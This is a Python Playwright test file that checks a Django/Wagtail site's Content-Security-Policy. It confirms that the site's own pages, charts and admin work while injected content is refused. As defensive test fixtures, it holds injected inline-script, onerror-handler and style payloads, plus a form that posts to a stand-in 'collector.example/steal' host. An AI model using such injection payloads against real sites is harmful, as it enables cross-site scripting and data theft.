"""The Content-Security-Policy in a real Chromium: it blocks what an attacker would inject,
and everything the site, the storefront and the Wagtail admin do themselves still works.

tests/browser/conftest.py fails any browser test on a CSP violation, so the journeys in the
other browser tests (sign-up, Checkout on the emulator and back, the storefront editor,
publishing a page) are covered too; the tests here add the pages they do not reach.
"""

import pytest
from playwright.sync_api import expect

from home.seed import ensure_editors_group
from storefronts.tests.factories import OfferFactory, OpeningHoursFactory, StorefrontFactory
from tests.browser.session import log_in
from tests.factories import UserFactory

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

INJECT = """() => {
  const script = document.createElement("script");
  script.textContent = "window.__mkInjected = 'script'";
  document.body.appendChild(script);
  const img = document.createElement("img");
  img.setAttribute("onerror", "window.__mkInjected = 'handler'");
  img.src = "data:,not-an-image";
  document.body.appendChild(img);
  const style = document.createElement("div");
  style.setAttribute("style", "color: rgb(1, 2, 3)");
  style.id = "mk-injected-style";
  document.body.appendChild(style);
}"""


def test_injected_inline_script_handler_and_style_are_refused_and_reported(
    page, site_home, csp_violations
):
    page.goto("/")
    page.evaluate(INJECT)
    page.wait_for_timeout(300)  # the error event of the broken image
    assert page.evaluate("window.__mkInjected") is None
    colour = page.evaluate("getComputedStyle(document.getElementById('mk-injected-style')).color")
    assert colour != "rgb(1, 2, 3)"
    reported = "\n".join(csp_violations)
    assert "script-src-elem" in reported  # the injected <script>
    assert "script-src-attr" in reported  # the onerror= handler
    assert "style-src-attr" in reported  # the style="" attribute
    csp_violations.clear()  # provoked on purpose; nothing else may have been refused


def test_public_storefront_has_its_colour_and_hours_without_a_violation(page, live_server):
    storefront = StorefrontFactory(brand_colour="#7a1f5c")
    OfferFactory(storefront=storefront, title="Gift card")
    OpeningHoursFactory(storefront=storefront)

    page.goto(f"/storefront/{storefront.slug}/")
    expect(page.get_by_role("heading", name="Gift card")).to_be_visible()
    hero = page.locator(".storefront-hero")
    assert hero.evaluate("el => getComputedStyle(el).backgroundColor") == "rgb(122, 31, 92)"
    # The JSON-LD block is data: present, parsed by crawlers, never run or refused.
    assert page.locator('script[type="application/ld+json"]').count() == 1
    # The storefront is the business's page (no hub menu); its own script runs: Share copies
    # the link where the browser has no share sheet.
    expect(page.locator(".navbar-toggler")).to_have_count(0)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=live_server.url)
    page.evaluate("delete Navigator.prototype.share")
    page.get_by_role("link", name="Share", exact=True).click()
    expect(page.get_by_test_id("share-status")).to_have_text("Link copied")


def test_owner_stats_and_dashboard_chart_render_without_a_violation(page, live_server):
    storefront = StorefrontFactory()
    log_in(page.context, live_server, storefront.profile.user)
    page.goto("/dashboard/")
    expect(page.locator(".stats-chart").first).to_be_visible()
    page.goto("/dashboard/storefront/stats/")
    # Views and clicks, then the Studio sales chart below it.
    expect(page.locator(".stats-chart")).to_have_count(2)
    for chart in page.locator(".stats-chart").all():
        expect(chart).to_be_visible()
    legend = page.locator(".stats-legend .swatch-views")
    assert legend.evaluate("el => getComputedStyle(el).backgroundColor") == "rgb(25, 135, 84)"
    sales = page.locator(".stats-legend .swatch-sales")
    assert sales.evaluate("el => getComputedStyle(el).backgroundColor") == "rgb(111, 66, 193)"
    # storefront-stats.js answers the keyboard on each chart.
    for figure in page.locator(".js-stats-chart").all():
        figure.locator(".stats-day").last.focus()
        page.keyboard.press("ArrowLeft")
        expect(figure.locator(".js-stats-readout")).not_to_be_empty()


def test_wagtail_editor_previews_chooses_an_image_and_publishes_without_a_violation(
    page, live_server, site_home
):
    editor = UserFactory(email="csp-editor@mintkit.test")
    editor.groups.add(ensure_editors_group())
    log_in(page.context, live_server, editor)

    page.goto(f"/admin/pages/{site_home.pk}/edit/")
    heading = page.locator('input[name="body-0-value-heading"]')
    heading.fill("Gift cards, previewed under a strict policy")

    # The preview panel frames the page's preview from the admin (frame-ancestors 'self').
    page.locator('button[data-side-panel-toggle="preview"]').click()
    # Wagtail loads each preview into a second iframe and swaps it in once loaded.
    expect(page.locator("iframe.w-preview__proxy")).to_have_count(0, timeout=15_000)
    preview = page.frame_locator("#w-preview-iframe")
    expect(preview.get_by_role("heading", level=1)).to_have_text(
        "Gift cards, previewed under a strict policy", timeout=15_000
    )

    # The image chooser opens its modal (HTML and scripts fetched from the admin).
    page.get_by_role("button", name="Choose an image").first.click()
    dialog = page.get_by_role("dialog")
    expect(dialog.get_by_role("heading", name="Choose an image")).to_be_visible()
    dialog.get_by_role("button", name="Close").first.click()

    page.get_by_role("button", name="More actions").click()
    page.get_by_role("button", name="Publish").click()
    page.get_by_text("has been published").wait_for()
    page.goto("/")
    expect(page.get_by_role("heading", level=1)).to_have_text(
        "Gift cards, previewed under a strict policy"
    )


def test_a_form_injected_to_post_elsewhere_is_refused(page, site_home, csp_violations):
    page.goto("/")
    page.evaluate(
        """() => {
          const form = document.createElement("form");
          form.method = "post";
          form.action = "https://collector.example/steal";
          document.body.appendChild(form);
          form.submit();
        }"""
    )
    page.wait_for_timeout(500)
    assert page.url.endswith("/")  # still on the site
    assert "form-action" in "\n".join(csp_violations)
    csp_violations.clear()  # provoked on purpose
